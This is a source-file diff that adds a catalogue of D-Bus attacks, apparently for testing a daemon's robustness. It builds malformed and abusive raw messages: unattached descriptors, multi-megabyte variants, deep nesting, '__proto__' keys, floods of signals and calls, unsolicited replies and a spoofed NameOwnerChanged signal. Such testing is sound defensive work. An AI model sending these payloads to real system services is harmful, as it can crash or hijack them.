@@ -1,0 +1,95 @@
+import { connectRaw, padded, rawMessage, type RawBus, signature, text, uint32 } from '../lab/raw-bus.js';
+
+/** What an attacker knows of the daemon. */
+export interface Victim {
+  /** path of the bus's socket */
+  readonly bus: string;
+  /** the daemon's unique names */
+  readonly names: readonly string[];
+}
+
+/** Gets ready, as a user with no rights at all; each call of what it gives is one round. */
+export type Attack = (victim: Victim) => Promise<() => Promise<void>>;
+
+const aSignal = { type: 'signal', path: '/', interface: 'org.example.Hostile', member: 'Hello' } as const;
+const aCall = { ...aSignal, type: 'call', serial: 7 } as const;
+const link = { ...aSignal, path: '/org/freedesktop/network1/link/_31', interface: 'org.freedesktop.DBus.Properties' };
+const MB = 1 << 20;
+
+/** Sends the same messages to every connection of the daemon; waits for the bus to have read them. */
+const onBus =
+  (messages: (bus: RawBus, destination: string) => readonly Buffer[]): Attack =>
+  async victim => {
+    const bus = await connectRaw(victim.bus);
+    const all = Buffer.concat(victim.names.flatMap(name => messages(bus, name)));
+    return async () => {
+      await bus.send(all);
+      await bus.settled();
+    };
+  };
+
+/** `av` of so many bytes, each element four: a byte. */
+const variants = (bytes: number): Buffer => Buffer.concat([uint32(bytes), Buffer.alloc(bytes, '\x01y\0\x07')]);
+/** A variant in a variant …, as deep as the bus allows. */
+const deep = Buffer.concat([...Array<Buffer>(60).fill(signature('v')), signature('y'), Buffer.from([7])]);
+const dictionary = (key: string): Buffer => {
+  const entry = Buffer.concat([text(key), signature('s')]);
+  const entries = Buffer.concat([padded(entry, 4), text('routable')]);
+  return Buffer.concat([uint32(entries.length), Buffer.alloc(4), entries]);
+};
+
+/** All that is known to have hurt, and its like. */
+export const attacks = {
+  'a descriptor that is not attached': onBus((_, destination) => [
+    rawMessage({ ...aSignal, destination, signature: 'h' }, uint32(0)),
+    rawMessage({ ...aSignal, destination, signature: 'v' }, Buffer.concat([padded(signature('h'), 4), uint32(0)])),
+    rawMessage({ ...aCall, destination, signature: 'h' }, uint32(9)),
+  ]),
+  'variants of 8 MB': onBus((_, destination) => [
+    rawMessage({ ...aSignal, destination, signature: 'av' }, variants(8 * MB)),
+  ]),
+  'variants of 31 MB': onBus((_, destination) => [
+    rawMessage({ ...aSignal, destination, signature: 'av' }, variants(31 * MB)),
+  ]),
+  'a call of 8 MB': onBus((_, destination) => [
+    rawMessage({ ...aCall, destination, signature: 'av' }, variants(8 * MB)),
+  ]),
+  'a path of 1 MB': onBus((_, destination) => [rawMessage({ ...aSignal, destination, path: `/${'a'.repeat(MB)}` })]),
+  'depth, and keys that objects have': onBus((_, destination) => [
+    rawMessage({ ...aSignal, destination, signature: 'v' }, deep),
+    rawMessage({ ...aSignal, destination, signature: 'a{sv}' }, dictionary('__proto__')),
+    rawMessage({ ...aSignal, destination, signature: 'a{sv}' }, dictionary('constructor')),
+  ]),
+  'a thousand signals': onBus((_, destination) =>
+    Array<Buffer>(1000).fill(rawMessage({ ...link, member: 'PropertiesChanged', destination })),
+  ),
+  'a hundred calls': onBus((_, destination) =>
+    ['Introspectable', 'Properties', 'Peer'].flatMap(of =>
+      Array<Buffer>(33).fill(
+        rawMessage({ ...aCall, flags: 1, interface: `org.freedesktop.DBus.${of}`, member: 'GetAll', destination }),
+      ),
+    ),
+  ),
+  'answers that nobody asked for': onBus((_, destination) =>
+    [1, 2, 3, 4, 5].flatMap(replySerial => [
+      rawMessage({ type: 'return', replySerial, destination, signature: 'av' }, variants(1000)),
+      rawMessage({ type: 'error', replySerial, destination, errorName: 'org.example.Error' }),
+    ]),
+  ),
+  'a change of owner': onBus(({ name }, destination) => [
+    rawMessage(
+      {
+        ...aSignal,
+        path: '/org/freedesktop/DBus',
+        interface: 'org.freedesktop.DBus',
+        member: 'NameOwnerChanged',
+        sender: 'org.freedesktop.DBus',
+        destination,
+        signature: 'sss',
+      },
+      Buffer.concat([padded(text('org.freedesktop.network1'), 4), padded(text(''), 4), text(name)]),
+    ),
+  ]),
+} satisfies Readonly<Record<string, Attack>>;
+
+export type AttackName = keyof typeof attacks;
